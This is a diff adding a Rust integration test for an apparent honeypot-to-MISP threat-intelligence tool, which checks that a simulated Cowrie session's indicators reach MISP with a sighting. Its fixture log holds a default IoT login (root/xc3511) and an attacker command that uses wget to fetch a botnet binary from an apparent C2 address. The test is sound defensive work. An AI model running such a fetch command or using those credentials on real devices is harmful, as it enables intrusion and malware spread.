@@ -1057,3 +1057,118 @@ fn alerts_from_real_suricata_reach_the_store_and_misp(suricata: Suricata) {
         .count() as u64;
     assert_eq!(pushed, wanted, "{rep}");
 }
+
+/// A honeypot visitor MISP already knows (an Infoblox C2 address in rulesync's index):
+/// `honeypot follow --once` decides it, `events push --ingest` makes the decision an
+/// event whose attributes hold the fetched payload's URL and SHA-256 as IDS indicators,
+/// and the visitor's address gets a sighting on the attribute MISP had.
+#[test]
+fn a_honeypot_visitor_reaches_misp_with_its_payload_and_a_sighting() {
+    let tmp = tempfile::tempdir().unwrap();
+    let dir = tmp.path();
+    let misp = PyServer::misp(dir);
+    let index = rulesync_index(dir);
+    let (_, c2_attr) = infoblox_origin("45.63.119.177");
+    let log = dir.join("cowrie.json");
+    let ev = |id: &str, t: &str, extra: &str| {
+        format!(
+            r#"{{"eventid":"{id}","src_ip":"45.63.119.177","timestamp":"2024-03-01T11:00:{t}Z","session":"a1b2c3","protocol":"telnet","sensor":"cam","dst_ip":"192.168.1.5","dst_port":2323{extra}}}"#
+        ) + "\n"
+    };
+    let sha = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
+    std::fs::write(
+        &log,
+        ev("cowrie.session.connect", "00.000000", "")
+            + &ev(
+                "cowrie.login.failed",
+                "00.100000",
+                r#","username":"root","password":"root""#,
+            )
+            + &ev(
+                "cowrie.login.success",
+                "00.200000",
+                r#","username":"root","password":"xc3511""#,
+            )
+            + &ev(
+                "cowrie.command.input",
+                "00.300000",
+                r#","input":"cd /tmp; wget http://45.63.119.177/bins/arm7""#,
+            )
+            + &ev(
+                "cowrie.session.file_download",
+                "00.400000",
+                &format!(r#","url":"http://45.63.119.177/bins/arm7","shasum":"{sha}""#),
+            ),
+    )
+    .unwrap();
+    let cfg = base_config(
+        dir,
+        &format!(
+            "[misp]\nurl = \"{}\"\nkey = {{ env = \"SG_TEST_MISP_KEY\" }}\ntimeout = 1.5\nintel-index = \"{}\"\n",
+            misp.url(),
+            index.display()
+        ),
+    );
+    let env = [("SG_TEST_MISP_KEY", MISP_KEY)];
+    let r = ctl(
+        &cfg,
+        &[
+            "-o",
+            "json",
+            "honeypot",
+            "follow",
+            "--once",
+            "--cowrie-log",
+            &log.display().to_string(),
+        ],
+        &[],
+    );
+    r.assert_success();
+    let rep = json(&r);
+    assert_eq!(rep["decisions"].as_array().unwrap().len(), 1, "{rep:#}");
+    let r = ctl(&cfg, &["events", "push", "--ingest", "-o", "json"], &env);
+    r.assert_success();
+    let pushed = json(&r);
+    assert_eq!(pushed["pushed"], 1, "{pushed}");
+    assert_eq!(pushed["sightings"], 1, "{pushed}");
+    let state = misp.get_json("/__state");
+    let event = state["events"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|e| e["info"].as_str().unwrap().contains("honeypot"))
+        .unwrap_or_else(|| panic!("no honeypot event: {state:#}"));
+    let attrs: Vec<(&str, &str, bool)> = event["Attribute"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| {
+            (
+                a["type"].as_str().unwrap(),
+                a["value"].as_str().unwrap(),
+                a["to_ids"].as_bool().unwrap_or(false),
+            )
+        })
+        .collect();
+    for want in [
+        ("ip-src", "45.63.119.177", true),
+        ("url", "http://45.63.119.177/bins/arm7", true),
+        ("sha256", sha, true),
+    ] {
+        assert!(attrs.contains(&want), "{want:?} missing: {attrs:?}");
+    }
+    let sightings: Vec<&str> = state["sightings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["attribute_uuid"].as_str().unwrap())
+        .collect();
+    assert_eq!(sightings, [c2_attr.as_str()]);
+    for q in misp.take_requests() {
+        assert_eq!(
+            q["errors"],
+            serde_json::json!([]),
+            "invalid against openapi.yaml: {q}"
+        );
+    }
+}
